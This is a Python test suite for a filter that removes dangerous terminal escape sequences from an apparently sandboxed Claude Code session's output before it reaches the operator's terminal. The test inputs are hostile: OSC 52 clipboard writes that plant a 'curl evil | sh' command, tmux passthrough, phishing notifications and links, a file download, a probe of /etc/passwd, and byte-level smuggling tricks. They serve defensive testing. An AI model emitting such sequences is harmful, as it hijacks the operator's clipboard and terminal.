"""The filter between a session's terminal output and the operator's terminal: no
clipboard write, passthrough or other string a terminal acts on gets through, however
the session splits, wraps or encodes it; everything else passes byte for byte."""

from __future__ import annotations

import base64

from hypothesis import example, given, settings
from hypothesis import strategies as st

from claude_cage.terminal_filter import ALLOWED_OSC, LIMIT, SYNC, TerminalFilter

CLIP = base64.b64encode(b"curl evil | sh").decode()
OSC52_BEL = f"\x1b]52;c;{CLIP}\x07".encode()
OSC52_ST = f"\x1b]52;c;{CLIP}\x1b\\".encode()
# tmux's passthrough: a DCS whose ESCs are doubled, unwrapped by a tmux that allows it.
PASSTHROUGH = f"\x1bPtmux;\x1b\x1b]52;c;{CLIP}\x07\x1b\\".encode()
SCREEN = "\x1b[?1049h\x1b[H\x1b[2J\x1b[38;5;174m╭───╮\x1b[0m\r\n│ Claude Code │ ✻ ß\r\n".encode()


def run(data: bytes, sizes: list[int] | None = None) -> bytes:
    """The filter's output for `data`, fed in chunks of the given sizes (then the rest)."""
    screen, out, at = TerminalFilter(), b"", 0
    for size in sizes or []:
        out += screen.feed(data[at : at + size])
        at += size
    return out + screen.feed(data[at:]) + screen.finish()


# ...and xterm ignores C1 characters there (U+0085 as C2 85; introducers are strings).
RUN_AFTER_ESC = {chr(c) for c in range(32) if chr(c) not in "\x18\x1a\x1b"} | {"\x7f"}
RUN_AFTER_ESC |= {chr(c) for c in range(0x80, 0xA0)}
# xterm's escape table is mirrored: after ESC, Ý (U+00DD, or a stray DD byte) is `]`.
MIRRORED = {chr(0x80 + ord(k)): k for k in "P]X^_"} | {chr(0xDC80 + ord(k)): k for k in "P]X^_"}


def strings_started(out: bytes) -> list[str]:
    """Every string a terminal would begin on `out` that the filter must not let
    through, read independently of the filter: OSC with a number not allowed, DCS other
    than tmux's synchronized updates, SOS, PM, APC, and any 8-bit introducer."""
    text, found = out.decode("utf-8", "surrogateescape"), []
    for i, c in enumerate(text):
        if c in "\x90\x98\x9d\x9e\x9f\udc90\udc98\udc9d\udc9e\udc9f":
            found.append(f"C1 {c!r} at {i}")
        if c != "\x1b":
            continue
        j = i + 1  # a terminal runs C0 controls (and ignores DEL) between ESC and its next
        while j < len(text) and text[j] in RUN_AFTER_ESC:
            j += 1
        kind, rest = text[j : j + 1], text[j + 1 :]
        kind = MIRRORED.get(kind, kind)
        if kind == "]":
            number = rest[: len(rest) - len(rest.lstrip("0123456789"))]
            after = rest[len(number) : len(number) + 1]
            if number not in ALLOWED_OSC or after not in (";", "\x07", "\x1b"):
                found.append(f"OSC {rest[:12]!r} at {i}")
        elif kind == "P" and not rest.startswith(SYNC):
            found.append(f"DCS {rest[:12]!r} at {i}")
        elif kind in ("X", "^", "_"):
            found.append(f"{kind} at {i}")
    return found


# The pieces strings are made of, with the ways to hide them: split, wrapped, 8-bit,
# controls after ESC, ESC doubled; and text they could be mistaken for.
TOKENS = [
    b"\x1b", b"\x1b", b"]", b"P", b"_", b"52", b"10", b"112", b";", b"c;QQ==", b"\x07",
    b"\\", b"\x18", b"\x00", b"\x7f", b"tmux;", b"=1s", b"\xc2\x9d", b"\xc2\x90",
    b"\xc2\x9c", b"\x9d", b"\x9c", b"a", "─".encode(), b"\xc5", "Ý".encode(), b"\xdd",
    "ß".encode(), b"\xc2\x85", b"\xc2\x9b",
]  # fmt: skip
hostile = st.one_of(
    st.lists(st.sampled_from(TOKENS), max_size=24).map(b"".join), st.binary(max_size=100)
)
splits = st.lists(st.integers(min_value=0, max_value=8), max_size=30)


@settings(max_examples=150)
@given(hostile)
@example(b"\x1b\x07\x7f]52;c;QQ==\x07")
@example(b"\x1b\xc2\x9d52;c;QQ==\x07_")
@example(b"\x1bP=1s\x1b]52;c;QQ==\x07")
def test_no_string_a_terminal_acts_on_gets_through(data: bytes) -> None:
    assert strings_started(run(data)) == []


# What a dropped string could glue together: an ESC (or ESC ESC, or a C1 introducer, or
# a UTF-8 lead byte) emitted before it and the text after it.
FRAGMENTS = [
    b"\x1b", b"\x1b\x1b", b"]", b"52;c;", b"0;x", b"\x07", b"\x1b\\", b"P", b"+q", b"_",
    b"\x9d", b"\x90", b"\xc2", b"x", b"\xc3", b"\xdd",
]  # fmt: skip
glued = st.lists(st.sampled_from(FRAGMENTS), max_size=12).map(b"".join)


@settings(max_examples=800, deadline=None)  # finds the glue on its own most runs
@given(glued)
@example(b"\x1b\x1b]0;x\x07]52;c;QUJD\x07")
@example(b"\x1b\x1b_x\x1b\\]52;c;QUJD\x07")
@example(b"\x1b\x1bP+q\x1b\\]52;c;QUJD\x07")
def test_no_dropped_string_glues_what_came_before_to_what_follows(data: bytes) -> None:
    assert strings_started(run(data)) == []


def test_an_esc_before_a_dropped_string_does_not_begin_one_after_it() -> None:
    for wrapper in (b"]0;x\x07", b"_x\x1b\\", b"P+q\x1b\\", b"X\x1b\\", b"^\x18"):
        out = run(b"\x1b\x1b" + wrapper + b"]52;c;QUJD\x07")
        assert out == b"]52;c;QUJD\x07", wrapper
    assert run(b"a\x1b\x07\x1b]0;x\x07]52;c;QUJD\x07") == b"a\x07]52;c;QUJD\x07"


@settings(max_examples=100)
@given(hostile, splits)
def test_chunks_split_anywhere_give_the_same_output(data: bytes, sizes: list[int]) -> None:
    assert run(data, sizes) == run(data)


benign = st.lists(
    st.one_of(
        st.text(
            st.characters(blacklist_categories=["Cs"], blacklist_characters="\x1b\x18\x1a"),
            max_size=20,
        ).filter(lambda s: not any("\x80" <= c <= "\x9f" for c in s)),
        st.sampled_from(
            [
                "\x1b[31m", "\x1b[0m", "\x1b[?2004h", "\x1b[>4;1m", "\x1b[2J", "\x1b[H",
                "\x1b(B", "\x1b(0", "\x1b7", "\x1b8", "\x1b=", "\x1b>", "\x1bM",
                "\x1b]10;?\x1b\\", "\x1b]11;?\x07", "\x1b]12;#ff0000\x07", "\x1b]112\x07",
                "\x1b]4;1;rgb:ff/00/00\x1b\\", "\x1bP=1s\x1b\\", "\x1bP=2s\x1b\\",
            ]
        ),
    ),
    max_size=30,
).map(lambda parts: "".join(parts).encode())  # fmt: skip


@settings(max_examples=80)
@given(benign, splits)
def test_text_csi_and_tmuxs_own_sequences_pass_byte_for_byte(data: bytes, sizes: list[int]) -> None:
    assert run(data, sizes) == data


def test_a_screen_of_claude_code_passes_untouched() -> None:
    assert run(SCREEN) == SCREEN
    assert run(SCREEN, [1] * len(SCREEN)) == SCREEN


def test_osc_52_with_either_terminator_is_dropped_whole() -> None:
    for attack in (OSC52_BEL, OSC52_ST):
        assert run(b"before" + attack + b"after") == b"beforeafter"


def test_sequences_split_at_every_byte_are_still_dropped() -> None:
    for attack in (OSC52_BEL, OSC52_ST, PASSTHROUGH):
        data = b"before" + attack + b"after"
        for cut in range(len(data) + 1):
            assert run(data, [cut]) == b"beforeafter", cut
        assert run(data, [1] * len(data)) == b"beforeafter"


def test_tmux_passthrough_and_every_other_dcs_is_dropped() -> None:
    assert run(b"a" + PASSTHROUGH + b"b") == b"ab"
    assert run(b"a\x1bP1$r0m\x1b\\b") == b"ab"  # a DECRQSS answer, say
    assert run(b"a\x1bPq#0;2;0;0;0#0~~@@\x1b\\b") == b"ab"  # sixel
    # tmux's synchronized updates pass, and only in their exact form.
    assert run(b"\x1bP=1s\x1b\\x\x1bP=2s\x1b\\") == b"\x1bP=1s\x1b\\x\x1bP=2s\x1b\\"
    assert run(b"\x1bP=1s]52;x\x1b\\b") == b"b"


def test_other_strings_are_dropped_too() -> None:
    for string in (
        b"\x1b]0;root@host: ~\x07",  # a title
        b"\x1b]8;;https://evil.test/\x1b\\",  # a hyperlink
        b"\x1b]9;Update your password at https://evil.test\x07",  # a notification
        b"\x1b]1337;File=name=eA==;inline=0:QUFB\x07",  # iTerm2: a download
        b"\x1b]52;c;?\x07",  # a clipboard read
        b"\x1b_Gf=100,t=f;L2V0Yy9wYXNzd2Q=\x1b\\",  # kitty: show (and probe) a host file
        b"\x1bX sos \x1b\\",
        b"\x1b^ pm \x1b\\",
    ):
        assert run(b"a" + string + b"b") == b"ab", string


def test_8_bit_introducers_as_utf8_and_as_stray_bytes() -> None:
    for intro in (b"\xc2\x9d", b"\x9d"):
        assert run(b"a" + intro + f"52;c;{CLIP}\x07b".encode()) == b"ab"
        assert run(b"a" + intro + f"52;c;{CLIP}\xc2\x9cb".encode()) == b"ab"
    assert run(b"a\xc2\x90tmux;x\x1b\\b") == b"ab"
    # A continuation byte of a character is no introducer: U+015D is C5 9D.
    assert run("ŝ─".encode()) == "ŝ─".encode()


def test_controls_between_esc_and_bracket_do_not_smuggle_an_osc() -> None:
    # A terminal runs BEL (and ignores DEL) after ESC and still reads ESC ] as OSC.
    out = run(f"a\x1b\x07\x7f]52;c;{CLIP}\x07b".encode())
    assert strings_started(out) == [] and CLIP.encode() not in out
    assert out == b"a\x07\x7fb"


def test_xterms_mirrored_introducers_after_esc_are_dropped() -> None:
    # xterm reads ESC Ý as ESC ] (its escape table repeats in the right half of
    # Latin-1): ESC Ý 2;... BEL sets its title, in UTF-8 (C3 9D) and 8-bit (DD) alike.
    for kind, end in (("]", "\x07"), ("]", "\x1b\\"), ("P", "\x1b\\"), ("X", "\x1b\\"),
                      ("^", "\x9c"), ("_", "\x1b\\")):  # fmt: skip
        char = chr(0x80 + ord(kind))
        for intro in (char.encode(), bytes([0x80 + ord(kind)])):
            for between in (b"", b"\x07\x7f", b"\xc2\x85"):
                data = b"a\x1b" + between + intro + f"52;c;{CLIP}{end}b".encode()
                out = run(data)
                assert out == b"a" + between + b"b", (kind, intro, between)
                assert run(data, [1] * len(data)) == out
    # Ý elsewhere is a letter: in text, in a CSI, after ESC with an intermediate.
    for text in ("Ýß ÐØÞ", "\x1b[31mÝ\x1b[0m", "\x1b(Ý"):
        assert run(text.encode()) == text.encode()


def test_a_c1_character_between_esc_and_bracket_does_not_smuggle_an_osc() -> None:
    # xterm (UTF-8) ignores U+0080-U+009F after ESC: ESC U+0085 ] 2;... BEL sets its title.
    for c1 in (b"\xc2\x85", b"\xc2\x84", b"\xc2\x9b", b"\xc2\x9c", b"\x85"):
        data = b"a\x1b" + c1 + f"]52;c;{CLIP}\x07b".encode()
        out = run(data)
        assert strings_started(out) == [] and CLIP.encode() not in out, c1
        assert out == b"a" + c1 + b"b"
        assert run(data, [1] * len(data)) == out


def test_controls_after_esc_are_not_held() -> None:
    # A terminal runs them as they come; held, a megabyte of them after one ESC would
    # grow without bound (and took minutes, each one copying all the ones before).
    screen = TerminalFilter()
    assert screen.feed(b"a\x1b") == b"a"
    for _ in range(256):
        assert screen.feed(b"\x00" * 4096) == b"\x00" * 4096
    assert screen.feed(b"]52;c;QQ==\x07b") == b"b"


def test_an_unterminated_string_is_dropped_up_to_the_limit_then_output_shows() -> None:
    data = b"a\x1b]52;c;" + b"A" * (LIMIT + 100) + b"visible"
    out = run(data, [4096] * (len(data) // 4096))
    assert out.startswith(b"a") and out.endswith(b"visible")
    assert len(out) == len(data) - len(b"\x1b]52") - LIMIT  # dropped, then shown
    assert strings_started(out) == []


def test_an_allowed_osc_left_open_is_closed_and_a_lone_esc_dropped() -> None:
    assert run(b"\x1b]10;?") == b"\x1b]10;?\x1b\\"
    assert run(b"x\x1b") == b"x"
    assert run(b"\x1b]10;?\x1b]52;c;QQ==\x07b") == b"\x1b]10;?\x1b\\b"
